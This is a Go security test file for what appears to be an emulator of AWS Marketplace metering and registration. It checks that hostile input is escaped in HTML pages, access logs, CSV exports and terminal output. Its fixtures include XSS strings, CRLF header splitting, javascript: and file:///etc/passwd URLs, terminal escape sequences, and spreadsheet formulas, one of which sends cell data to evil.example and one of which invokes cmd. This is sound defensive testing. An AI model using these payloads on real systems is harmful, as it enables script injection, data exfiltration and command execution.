package attack

import (
	"bytes"
	"encoding/csv"
	"encoding/json"

	"net/http"
	"net/url"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"
)

// hostile is a text that wants to be something else wherever it is shown: HTML, an attribute, a template, a line of a log, a terminal's escape sequence (ESC, and
// CSI of ISO 6429), text from right to left.
const hostile = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)> {{.}} ${7*7} \x1b[31m\u009b2J \u202egnp.exe\u2066 \u061c \u2028 &amp;\r\n" +
	`{"time":"2026-01-01T00:00:00Z","level":"INFO","msg":"request","key":"forged"}`

const (
	hostileCode  = "hostile00000000000000001"
	hostileVault = "=hostile0000000000000001" // an equal sign is a character of product codes
	escaping     = "internal/console/render.go:render (html/template)"
	cleaned      = "cmd/souk/output.go:clean"
	defused      = "internal/admin/usage_export.go:defused"
)

// formulas are dimensions that a spreadsheet would run.
var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1"}

func injections(t *testing.T, s *siege) {
	var dimensions []members
	for _, f := range append([]string{hostile}, formulas...) {
		dimensions = append(dimensions, members{"key": f, "kind": "metered", "name": hostile, "unit": hostile})
	}
	file := members{
		"version":  1,
		"accounts": []members{{"id": victimAccount, "name": hostile, "seller": true}, {"id": "200000000003", "name": hostile, "buyer": true}},
		"roles": []members{{"account": "200000000003", "name": "=role", "workload": "ecs-task",
			"policies": []members{{"name": "Everything", "document": document(allow(everything))}}}},
		"products": []members{{
			"code": hostileCode, "seller": victimAccount, "title": hostile, "description": hostile, "kind": "legacy", "dimensions": dimensions,
			"registration_url": `http://127.0.0.1:1/"><script>alert(1)</script>?a='b`,
			"offers":           []members{{"kind": "public", "name": hostile}},
		}, {
			"code": hostileVault, "seller": victimAccount, "title": hostile, "kind": "legacy", "registration_url": "http://127.0.0.1:1/",
			"dimensions": []members{{"key": "users", "kind": "metered"}}, "offers": []members{{"kind": "public"}},
		}},
	}
	status, answer := s.dev.ask(t, http.MethodPut, "/api/v1/world", "application/json", encode(file))
	if status != http.StatusOK {
		t.Fatalf("%d %s", status, answer)
	}
	bought := s.dev.buy(t, hostileCode, "200000000003")
	t.Run("pages", func(t *testing.T) { hostilePages(t, s, bought.AgreementID) })
	t.Run("registration page", func(t *testing.T) { hostileTokens(t, s) })
	t.Run("registration URLs", func(t *testing.T) { hostileURLs(t, s) })
	t.Run("logs", func(t *testing.T) { hostileLogs(t, s) })
	t.Run("spreadsheet", func(t *testing.T) { spreadsheet(t, s) })
	t.Run("terminal", func(t *testing.T) { terminal(t, s, bought.AgreementID) })
}

// obeyed are the characters that a terminal, or whoever reads it, takes for more than text.
var obeyed = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")

// checkPage holds a page to showing the hostile text, and to showing it as text.
func checkPage(t *testing.T, name string, body []byte) {
	t.Helper()
	page := string(body)
	if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Errorf("%s does not show the text at all: %.3000s", name, page)
	}
	for _, bad := range []string{"<script>alert", "<img src=x", "onerror=alert(2)>", `"><img`, "${49}"} {
		if i := strings.Index(page, bad); i >= 0 {
			t.Errorf("%s has %q: %.300q\nguard: %s", name, bad, page[max(0, i-100):], escaping)
		}
	}
	if i := obeyed.FindStringIndex(strings.ReplaceAll(page, "\u2028", " ")); i != nil { // which is white space to a browser
		t.Errorf("%s has what is obeyed at %d: %.300q\nguard: internal/console/words.go:plain", name, i[0], page[max(0, i[0]-20):])
	}
}

func hostilePages(t *testing.T, s *siege, agreement string) {
	form := []line{{"Content-Type", "application/x-www-form-urlencoded"}}
	for _, r := range []request{
		{method: "GET", path: "/"},
		{method: "GET", path: "/products/" + hostileCode},
		{method: "GET", path: "/subscriptions"},
		{method: "GET", path: "/subscriptions/" + agreement},
		{method: "POST", path: "/subscriptions/" + agreement + "/setup", lines: form},
		{method: "POST", path: "/products/" + hostileCode + "/subscribe", lines: form, body: "buyer=" + url.QueryEscape(hostile) + "&offer=" + url.QueryEscape(hostile)},
		{method: "POST", path: "/products/" + hostileCode + "/registration-url", lines: form, body: "url=" + url.QueryEscape(hostile[:strings.Index(hostile, "\x1b")])},
	} {
		got := r.send(t, s.dev)
		if got.status >= 500 || got.status == 0 {
			t.Fatalf("%s %s: %s", r.method, r.path, got)
		}
		checkPage(t, r.method+" "+r.path, got.body)
	}
	// An address is shown on the page that says that there is nothing at it, and splits no header.
	for _, path := range []string{"/products/" + url.PathEscape(hostile), "/subscriptions/" + url.PathEscape(hostile), "/" + url.PathEscape(hostile), "/products/x%0d%0aSet-Cookie:%20a=b"} {
		got := request{method: "GET", path: path}.send(t, s.dev)
		if got.status != http.StatusNotFound || got.header.Get("Set-Cookie") != "" || bytes.Contains(got.body, []byte("<script>alert")) || obeyed.Match(got.body) {
			t.Errorf("%s: %s\nguard: internal/console/fail.go", path, got)
		}
	}
	// The AWS face speaks no HTML, to browsers neither.
	f := &forgery{method: "GET", target: "/" + url.PathEscape(hostile), lines: []line{{"Host", s.dev.address()}, {"Accept", "text/html"}, {"X-Amz-Target", "<script>alert(1)</script>"}}}
	if got := f.send(t, s.dev); got.status != http.StatusNotFound || got.header.Get("Content-Type") != "application/x-amz-json-1.1" {
		t.Errorf("the AWS face: %s %v", got, got.header)
	}
}

// hostileTokens come from anywhere: the registration page is the one that other origins may post to.
func hostileTokens(t *testing.T, s *siege) {
	for _, field := range []string{"x-amzn-marketplace-token", "x-amzn-marketplace-agreement-id", "x-amzn-marketplace-product-id", "x-amzn-marketplace-offer-type", hostile} {
		form := url.Values{"x-amzn-marketplace-token": {strings.Repeat("A", 100)}}
		form.Set(field, hostile)
		r := request{method: "POST", path: "/register", lines: []line{{"Content-Type", "application/x-www-form-urlencoded"}, {"Origin", "https://evil.example"}, {"Sec-Fetch-Site", "cross-site"}}, body: form.Encode()}
		got := r.send(t, s.dev)
		if got.status == 0 || got.status >= 500 || !strings.HasPrefix(got.header.Get("Content-Type"), "text/html") {
			t.Fatalf("%s", got)
		}
		if bytes.Contains(got.body, []byte("<script>alert")) || bytes.Contains(got.body, []byte("<img src=x")) {
			t.Errorf("%s as it is: %.2000s\nguard: internal/registration/render.go (html/template)", field, got.body)
		}
	}
}

// hostileURLs: where a buyer's browser is sent to is a site, not a program.
func hostileURLs(t *testing.T, s *siege) {
	const guard = "internal/market/catalog.go (registration URL)"
	put := func(address string) int {
		status, _ := s.dev.ask(t, http.MethodPatch, "/api/v1/products/"+hostileCode, "application/json", encode(map[string]string{"registration_url": address}))
		return status
	}
	for _, address := range []string{"javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
		"//evil.example", "/register", "http:evil", "http://", "http://\x1b[31m", "ftp://evil.example/", "blob:http://x", "http://" + strings.Repeat("x", 3000)} {
		if status := put(address); status != http.StatusUnprocessableEntity {
			t.Errorf("%q: %d\nguard: %s", address, status, guard)
		}
	}
	if status := put(`https://example.com/"><script>alert(1)</script>?a='b`); status != http.StatusOK {
		t.Errorf("a site: %d", status)
	}
}

// hostileLogs: what a stranger sends is in the access log, and is one member of one line there. That all lines are lines is checked when a Souk has ended.
func hostileLogs(t *testing.T, s *siege) {
	// A signature in the query string may name any key at all; header values are held to their characters by net/http.
	short := "AKIA" + hostile[len(hostile)-60:] + "\x7f\u009b2J\u202e\x1b[2K\r\n"
	for _, k := range []*souk{s.dev, s.far} {
		f := call(k, key{id: short, secret: "x"}, "BatchMeterUsage", noUsage)
		got := f.presign("300").send(t, k)
		if k == s.dev {
			refused(t, lookup, got, http.StatusBadRequest, noClient, "")
		} else {
			accepted(t, got) // it takes anybody, and says so in its log
		}
	}
	got, _ := entitlements(t, s.dev, victim, members{"ProductCode": hostile, "NextToken": "x"})
	refused(t, notListed, got, http.StatusBadRequest, badParameter, "")
	agent := call(s.dev, victim, "BatchMeterUsage", noUsage)
	agent.set("User-Agent", strings.NewReplacer("\x1b", "", "\r\n", "").Replace(hostile))
	accepted(t, agent.sign().send(t, s.dev))

	want := map[string]string{"key": short, "product": hostile}
	for deadline := time.Now().Add(patience); len(want) > 0 && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		lines, err := os.ReadFile(s.dev.access)
		if err != nil {
			t.Fatal(err)
		}
		lines = lines[:bytes.LastIndexByte(lines, '\n')+1] // a line may be on its way
		for l := range bytes.Lines(lines) {
			var members map[string]any
			if err := json.Unmarshal(l, &members); err != nil {
				t.Fatalf("%v: %.500q\nguard: internal/reqlog/line.go:appendEscaped", err, l)
			}
			for name, text := range want {
				if members[name] == text {
					delete(want, name)
				}
			}
			if members["key"] == "forged" {
				t.Fatalf("a line was forged\nguard: internal/reqlog/line.go:appendEscaped")
			}
		}
	}
	if len(want) > 0 {
		t.Errorf("the access log does not tell %q", want)
	}
	said, err := os.ReadFile(s.far.stderr)
	if err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(said, []byte("relaxed authentication")); n != 1 || bytes.Contains(said, []byte("\x1b")) || bytes.Contains(said, []byte("\u009b")) {
		t.Errorf("%d lines tell of the stranger that was let in: %q", n, said)
	}
	// The view of a request, for people and programs, is JSON too.
	var out struct{ Requests []map[string]any }
	s.dev.do(t, http.MethodGet, "/api/v1/requests?limit=500", nil, &out)
	if len(out.Requests) == 0 {
		t.Error("there are no requests")
	}
}

// spreadsheet: usage as CSV is opened by whoever settles accounts, and the names in it are the sellers' and the buyers'.
func spreadsheet(t *testing.T, s *siege) {
	at := time.Now()
	for i, f := range formulas {
		accepted(t, call(s.dev, victim, "BatchMeterUsage", batch(hostileCode, record(at, f, i+1, byAccount("200000000003")))).sign().send(t, s.dev))
	}
	s.dev.buy(t, hostileVault, "200000000003")
	for _, session := range []string{"=1+1", "@x", "plain"} {
		task := s.dev.session(t, "arn:aws:iam::200000000003:role/=role", session, "1h")
		accepted(t, call(s.dev, task, "MeterUsage", members{"ProductCode": hostileVault, "Timestamp": at.Unix(), "UsageDimension": "users", "UsageQuantity": 1}).sign().send(t, s.dev))
	}
	_, exported := s.dev.ask(t, http.MethodGet, "/api/v1/usage/export?format=csv&buyer=200000000003", "", nil)
	for name, text := range map[string]string{
		"control listener": string(exported),
		"souk usage":       soukCommand(t, "usage", "export", "--control", s.dev.Control, "--buyer", "200000000003", "--format", "csv"),
	} {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(rows) != 1+len(formulas)+3 {
			t.Fatalf("%s: %d rows, %v", name, len(rows), err)
		}
		shown := map[string]bool{}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", []rune(cell)[0]) {
					t.Errorf("%s: a spreadsheet would run %q\nguard: %s", name, cell, defused)
				}
				shown[cell] = true
			}
		}
		for _, f := range append([]string{hostileVault, "=role/=1+1"}, formulas...) {
			f = strings.ReplaceAll(f, "\r", "") // RFC 4180 has it at the ends of lines only
			if !shown["'"+f] {
				t.Errorf("%s: %q is not shown behind an apostrophe\nguard: %s", name, f, defused)
			}
		}
	}
	// Programs get every text as it is.
	_, exported = s.dev.ask(t, http.MethodGet, "/api/v1/usage/export?buyer=200000000003", "", nil)
	exact := map[string]bool{}
	for l := range bytes.Lines(exported) {
		var e entry
		if err := json.Unmarshal(l, &e); err != nil {
			t.Fatal(err)
		}
		exact[e.Dimension] = true
	}
	for _, f := range formulas {
		if !exact[f] {
			t.Errorf("JSON has not %q", f)
		}
	}
}

// terminal: what souk prints for people has nothing in it that a terminal obeys.
func terminal(t *testing.T, s *siege, agreement string) {
	accepted(t, call(s.dev, victim, "BatchMeterUsage", batch(hostileCode, record(time.Now(), hostile, 9, byAccount("200000000003")))).sign().send(t, s.dev))
	f := call(s.dev, key{id: "AKIA\x1b[31m\u009b2J\u202e\r\nforged", secret: "x"}, "BatchMeterUsage", noUsage)
	f.set("User-Agent", "\u009b2J\u202eevil")
	got := f.presign("300").send(t, s.dev)
	refused(t, lookup, got, http.StatusBadRequest, noClient, "")
	id := got.header.Get("X-Amzn-Requestid")
	for _, c := range []struct {
		args []string
		text string // a part of what is to be seen; "": whatever it is
	}{
		{[]string{"product", "list"}, "<script>alert(1)</script>"},
		{[]string{"product", "show", hostileCode}, "<script>alert(1)</script>"},
		{[]string{"agreement", "list"}, agreement},
		{[]string{"agreement", "show", agreement}, agreement},
		{[]string{"usage", "list", "--buyer", "200000000003"}, "<script>alert(1)</script>"},
		{[]string{"usage", "sum", "--by", "dimension,product"}, "<script>alert(1)</script>"},
		{[]string{"requests", "list", "--limit", "0"}, noClient},
		{[]string{"requests", "show", id}, "forged"},
	} {
		out := soukCommand(t, append(c.args, "--control", s.dev.Control)...)
		if !strings.Contains(out, c.text) {
			t.Errorf("souk %v does not show %q: %.2000s", c.args, c.text, out)
		}
		if i := obeyed.FindStringIndex(out); i != nil {
			t.Errorf("souk %v prints %q: %.200q\nguard: %s", c.args, out[i[0]:i[1]], out[max(0, i[0]-50):], cleaned)
		}
		for l := range strings.Lines(out) {
			if strings.HasPrefix(l, "forged") || strings.HasPrefix(l, `{"time"`) {
				t.Errorf("souk %v prints a line of a stranger's: %q\nguard: cmd/souk/cell.go:oneLine", c.args, l)
			}
		}
		var parsed any
		raw := soukCommand(t, append(c.args, "--json", "--control", s.dev.Control)...)
		if err := json.Unmarshal([]byte(raw), &parsed); err != nil || strings.Contains(raw, "\x1b") {
			t.Errorf("souk %v --json: %v", c.args, err)
		}
	}

}
